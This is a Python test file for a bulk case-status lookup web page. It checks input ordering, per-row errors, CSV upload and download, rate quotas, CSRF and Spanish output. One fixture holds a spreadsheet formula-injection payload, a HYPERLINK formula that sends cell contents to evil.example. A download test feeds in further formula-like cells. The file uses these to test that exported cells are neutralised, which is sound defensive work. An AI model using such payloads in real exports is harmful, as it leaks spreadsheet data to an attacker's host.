"""/bulk over fake adapters: many numbers at once, in order, with per-row errors, CSV in and
out, and the API's quotas (the address's, or a signed-in representative's own)."""

from __future__ import annotations

import csv
import html
import io
import re
from collections.abc import AsyncIterator, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime

import httpx
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from aggregator.config import parse_config
from aggregator.consent.vocabulary import Role
from aggregator.federation.fanout import AgencyCallError
from aggregator.model import Case, LookupFailure, LookupOutcome, Status, Text
from gateway.app import GatewaySettings, create_app
from gateway.auth import SignedIn, TokenVerifier
from gateway.ratelimit import RatePolicy
from gateway.web.app import WebSettings
from gateway.web.bulk_csv import MAX_INPUT_BYTES
from support.fakes import fake_service
from support.pages import SESSION_COOKIE, session_cookie

SECRET = b"bulk-test-secret" * 2
T0 = datetime(2026, 5, 1, 14, 0, tzinfo=UTC)
CONFIG = parse_config({"agencies": [
    {"id": "fake", "name": "Fake Agency", "name_es": "Agencia Falsa", "address": "unused:1",
     "numbers": "^FAK", "number_format": "FAK and 6 digits (e.g. FAK123456)"},
    {"id": "down", "name": "Down Agency", "name_es": "Agencia Caída", "address": "unused:2",
     "numbers": "^DWN", "number_format": "DWN and 6 digits (e.g. DWN123456)"}]})


def _status(title: str, es_title: str, action: bool = False) -> Status:
    return Status("PENDING", "UNDER_REVIEW", action, "Case Is Being Actively Reviewed",
                  "As of May 1, we are actively reviewing your Form I-765.",
                  {"en": Text(title, "An officer is looking at your case.", "Wait."),
                   "es": Text(es_title, "Un funcionario revisa su caso.", "Espere.")})


# FAK000002's title begins like a spreadsheet formula, as an agency's wording might.
CASES = {"FAK000001": _status("Under review", "En revisión"),
         "FAK000002": _status('=HYPERLINK("http://evil.example/?"&A1)', "=1+1", action=True)}


class CountingAdapter:
    """FAK000001 and FAK000002 exist; other numbers are not found. Records each call."""

    def __init__(self) -> None:
        self.calls: list[list[str]] = []

    @property
    def asked(self) -> list[str]:
        return [n for call in self.calls for n in call]

    async def lookup(self, numbers: Sequence[str], timeout: float) -> list[LookupOutcome]:
        self.calls.append(list(numbers))
        return [Case("fake", n, "I-765", "Employment authorization", CASES[n], T0, T0)
                if n in CASES else LookupFailure(n, "NOT_FOUND", "no such case")
                for n in numbers]

    async def close(self) -> None:
        return None


class DownAdapter:
    """An agency that fails every call on its side."""

    async def lookup(self, numbers: Sequence[str], timeout: float) -> list[LookupOutcome]:
        raise AgencyCallError("INTERNAL", "the agency's database is down")

    async def close(self) -> None:
        return None


@dataclass
class World:
    app: object
    adapter: CountingAdapter
    client: httpx.AsyncClient

    def signed_in(self, who: SignedIn) -> httpx.AsyncClient:
        """Another browser, at the same address, with ``who``'s page session."""
        return httpx.AsyncClient(
            transport=httpx.ASGITransport(app=self.app),  # type: ignore[arg-type]
            base_url="http://127.0.0.1",
            cookies={SESSION_COOKIE: session_cookie(SECRET, who, csrf="t")})


async def _world(burst: float = 1000, representative_burst: float = 1000
                 ) -> AsyncIterator[World]:
    adapter = CountingAdapter()
    service = fake_service(CONFIG, {"fake": adapter, "down": DownAdapter()})  # type: ignore[dict-item]
    app = create_app(service, TokenVerifier(Ed25519PrivateKey.generate().public_key()),
                     GatewaySettings(rate=RatePolicy(burst=burst, per_second=0.001),
                                     representative_rate=RatePolicy(
                                         burst=representative_burst, per_second=0.001),
                                     web=WebSettings(session_secret=SECRET)))
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app),
                                 base_url="http://127.0.0.1") as client:
        yield World(app, adapter, client)
    await service.close()


@pytest.fixture
async def world() -> AsyncIterator[World]:
    """The pages over a fake agency and one that is down, with generous quotas."""
    async for value in _world():
        yield value


def _rows(page: str) -> list[tuple[str, str]]:
    """(number, outcome) per result row: the category badge, or the problem's code."""
    rows = []
    for body in re.findall(r"<tr>(.*?)</tr>", page.split("<tbody>")[1], re.DOTALL):
        number = re.search(r'<th scope="row"[^>]*>([^<]*)</th>', body)
        assert number, body
        code = re.search(r'data-code="([A-Z_]+)"', body)
        badge = re.search(r'caseline-category--[a-z]+">([^<]+)</span>', body)
        outcome = code.group(1) if code else badge.group(1) if badge else "?"
        rows.append((html.unescape(number.group(1)), outcome))
    return rows


def _visible(page: str) -> str:
    """The page's text as read: no markup (attributes and the download's hidden table keep
    machine values)."""
    return html.unescape(re.sub(r"<[^>]+>", " ", page))


async def _check(client: httpx.AsyncClient, numbers: str, **kwargs: object) -> httpx.Response:
    return await client.post("/bulk", data={"numbers": numbers}, **kwargs)  # type: ignore[arg-type]


async def test_form_in_english_posts_multipart_to_bulk(world: World) -> None:
    """GET /bulk: a form with a text area and a CSV file input, posted as multipart."""
    response = await world.client.get("/bulk")
    assert response.status_code == 200
    assert '<html lang="en">' in response.text
    assert 'action="/bulk" method="post" enctype="multipart/form-data"' in response.text
    assert 'type="file" accept=".csv,text/csv"' in response.text


async def test_results_keep_the_order_given_with_duplicates_and_per_row_errors(
        world: World) -> None:
    """One row per number as given, duplicates kept; a malformed number names the formats,
    an unknown one says so, an agency that fails is named; one batched call per agency, and
    an over-long number is never sent."""
    too_long = "FAK" + "1" * 62
    response = await _check(world.client,
                            f"FAK000001\nXYZ-1, FAK999999 FAK000001\r\nDWN000001;{too_long}")
    assert response.status_code == 200
    assert _rows(response.text) == [
        ("FAK000001", "Pending"), ("XYZ-1", "INVALID_NUMBER"), ("FAK999999", "NOT_FOUND"),
        ("FAK000001", "Pending"), ("DWN000001", "AGENCY_UNAVAILABLE"),
        (too_long[:64] + "…", "INVALID_NUMBER")]
    text = response.text
    assert "6 case numbers checked, 2 found" in text
    assert "FAK and 6 digits (e.g. FAK123456)" in text
    assert "No case with the number FAK999999 was found." in text
    assert "Down Agency could not answer because of a problem on its side (INTERNAL)" in text
    assert "a case number has at most 64 characters, this one has 65" in text
    assert world.adapter.calls == [["FAK000001", "FAK999999", "FAK000001"]]
    assert response.headers["cache-control"] == "no-store"
    # Last update in words, the moment machine-readable; the CSV keeps ISO (tested below).
    assert text.count('<time datetime="2026-05-01T14:00:00+00:00">May 1, 2026, '
                      '2:00\u202fPM UTC</time>') == 2
    assert "2026-05-01 14:00" not in _visible(text)


async def test_a_hundred_and_one_numbers_are_refused_with_the_count(world: World) -> None:
    """101 numbers: 400 saying how many were given and the limit; no agency is asked."""
    numbers = "\n".join(f"FAK{i:06d}" for i in range(101))
    response = await _check(world.client, numbers)
    assert response.status_code == 400
    assert ("You gave 101 case numbers; at most 100 can be checked at once."
            in response.text)
    assert world.adapter.calls == []


async def test_a_hundred_numbers_are_checked(world: World) -> None:
    """Exactly 100 numbers is within the limit: 100 rows, one call."""
    response = await _check(world.client, ",".join(["FAK000001"] * 100))
    assert response.status_code == 200
    assert len(_rows(response.text)) == 100
    assert len(world.adapter.calls) == 1


async def test_csv_upload_with_a_header_row_reads_the_number_column(world: World) -> None:
    """A CSV of client names and case numbers with a header: the header is skipped (and
    said so), the "Case number" column is read."""
    data = b"\xef\xbb\xbfClient,Case number\r\nAna,FAK000001\r\nLee,FAK999999\r\n"
    response = await world.client.post("/bulk", files={"file": ("cases.csv", data,
                                                                "text/csv")})
    assert response.status_code == 200
    assert _rows(response.text) == [("FAK000001", "Pending"), ("FAK999999", "NOT_FOUND")]
    assert ("The file&#39;s first row was read as column names and skipped: Client, "
            "Case number" in response.text)


async def test_csv_upload_without_a_header_row_reads_every_row(world: World) -> None:
    """A one-column CSV without a header: every row is a number, none skipped."""
    response = await world.client.post("/bulk", files={"file": (
        "cases.csv", b"FAK999999\nFAK000001\n\nFAK000001\n", "text/csv")})
    assert _rows(response.text) == [("FAK999999", "NOT_FOUND"), ("FAK000001", "Pending"),
                                    ("FAK000001", "Pending")]
    assert "read as column names" not in response.text


async def test_an_oversized_upload_is_refused_before_it_is_parsed(world: World) -> None:
    """A file one byte over the limit is refused by its size (413): it is not valid UTF-8,
    so a parse would have said that instead."""
    data = b"\xff" * (MAX_INPUT_BYTES + 1)
    response = await world.client.post("/bulk", files={"file": ("big.csv", data,
                                                                "text/csv")})
    assert response.status_code == 413
    assert f"The file has {MAX_INPUT_BYTES + 1} bytes; at most {MAX_INPUT_BYTES}" in response.text
    assert "UTF-8" not in response.text.split("usa-alert__text")[1].split("</p>")[0]
    assert world.adapter.calls == []


async def test_a_file_that_is_not_utf8_is_refused_in_words(world: World) -> None:
    """A Latin-1 file is refused saying which byte is not UTF-8 and how to save it."""
    response = await world.client.post("/bulk", files={"file": (
        "cases.csv", "Número\nFAK000001\n".encode("latin-1"), "text/csv")})
    assert response.status_code == 400
    assert "The file is not UTF-8 text (byte 2 is not)" in response.text


async def test_pasting_and_uploading_at_once_is_refused(world: World) -> None:
    """Both inputs: 400 asking for one of them; nothing looked up."""
    response = await world.client.post("/bulk", data={"numbers": "FAK000001"}, files={
        "file": ("cases.csv", b"FAK000001\n", "text/csv")})
    assert response.status_code == 400
    assert "Paste case numbers or choose a CSV file, not both." in response.text
    assert world.adapter.calls == []


def _download_form(page: str) -> dict[str, str]:
    form = page.split('action="/bulk/download"')[1].split("</form>", maxsplit=1)[0]
    return {name: html.unescape(value)
            for name, value in re.findall(r'name="([a-z_]+)" value="([^"]*)"', form)}


async def test_the_downloaded_csv_neutralises_formula_cells(world: World) -> None:
    """The download is an attachment, text/csv in UTF-8; parsed back, every cell that began
    with =, +, - or @ (typed numbers, an agency's title) starts with a single quote, and the
    rest are as shown. No second lookup is made."""
    page = await _check(world.client, "=1+2 +FAK000001 -FAK000001 @SUM(A1) FAK000002 "
                                      "FAK000001")
    calls = list(world.adapter.calls)
    response = await world.client.post("/bulk/download", data=_download_form(page.text))
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith("attachment;")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == ["Case number", "Agency", "Case type", "Status category", "Status",
                       "Action required", "Last update (UTC)", "Problem"]
    assert [r[0] for r in rows[1:]] == ["'=1+2", "'+FAK000001", "'-FAK000001", "'@SUM(A1)",
                                        "FAK000002", "FAK000001"]
    assert rows[5][1:7] == ["Fake Agency", "I-765 (Employment authorization)", "Pending",
                            "'=HYPERLINK(\"http://evil.example/?\"&A1)", "Yes",
                            "2026-05-01 14:00"]
    assert rows[6][4] == "Under review"
    assert "FAK and 6 digits" in rows[2][7]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert world.adapter.calls == calls


async def test_the_download_needs_the_pages_csrf_token(world: World) -> None:
    """Another site cannot have a browser download a table of its making: without the
    session's CSRF token the download is refused (403)."""
    page = await _check(world.client, "FAK000001")
    form = _download_form(page.text)
    response = await world.client.post("/bulk/download", data={**form, "csrf_token": "x"})
    assert response.status_code == 403


async def test_a_damaged_table_is_refused_in_words(world: World) -> None:
    """A table that is not the results' shape: 400 asking to check again."""
    page = await _check(world.client, "FAK000001")
    form = _download_form(page.text)
    response = await world.client.post("/bulk/download",
                                       data={**form, "table": '[["a"], ["b", "c"]]'})
    assert response.status_code == 400
    assert "The results to download were missing or damaged." in response.text


async def test_anonymous_and_representative_spend_different_quotas() -> None:
    """Anonymous visitors spend the address's quota; a representative signed in at the same
    address spends their own: the address's stays whole, and their own runs out alone."""
    async for world in _world(burst=3, representative_burst=5):
        rita = world.signed_in(SignedIn("rep-rita", Role.REPRESENTATIVE, "Rita"))
        async with rita:
            assert (await _check(rita, "FAK000001 FAK000001 FAK000001")).status_code == 200
            # The address's quota is untouched: three anonymous lookups still pass.
            assert (await _check(world.client, "FAK000001 FAK000001 FAK000001")
                    ).status_code == 200
            refused = await _check(world.client, "FAK000001")
            assert refused.status_code == 429
            assert int(refused.headers["retry-after"]) >= 1
            assert "too many lookups from this client; try again in" in refused.text
            assert "Too many lookups" in refused.text
            # Rita still has two of her five.
            assert (await _check(rita, "FAK000001 FAK000001")).status_code == 200
            own = await _check(rita, "FAK000001")
            assert own.status_code == 429
            assert "your account&#39;s lookup quota (5 at once" in own.text
        assert len(world.adapter.asked) == 8


async def test_a_refused_quota_keeps_the_numbers_in_the_form() -> None:
    """A batch over the quota is refused whole, the numbers kept for another try."""
    async for world in _world(burst=2):
        response = await _check(world.client, "FAK000001 FAK999999 FAK000001")
        assert response.status_code == 429
        assert "FAK000001\nFAK999999\nFAK000001</textarea>" in response.text
        assert world.adapter.calls == []


async def test_the_page_in_spanish(world: World) -> None:
    """?lang=es: the form and the results in Spanish, agency names too."""
    form = await world.client.get("/bulk?lang=es")
    assert '<html lang="es">' in form.text
    assert "<h1>Consultar muchos casos</h1>" in form.text
    assert "Números de caso" in form.text
    results = await _check(world.client, "FAK000001 FAK999999")
    assert '<html lang="es">' in results.text
    assert "2 números de caso consultados, 1 encontrados" in results.text
    assert "Agencia Falsa" in results.text
    assert "En revisión" in results.text
    assert "Descargar los resultados (CSV)" in results.text
    assert '<time datetime="2026-05-01T14:00:00+00:00">1 de mayo de 2026, 14:00 UTC</time>' \
        in results.text
    assert "2026-05-01 14:00" not in _visible(results.text)


async def test_the_bulk_page_has_nothing_inline(world: World) -> None:
    """The results page keeps the strict CSP: no inline script or style."""
    response = await _check(world.client, "FAK000001")
    assert "unsafe-inline" not in response.headers["content-security-policy"]
    assert "<script" not in response.text
    assert " style=" not in response.text
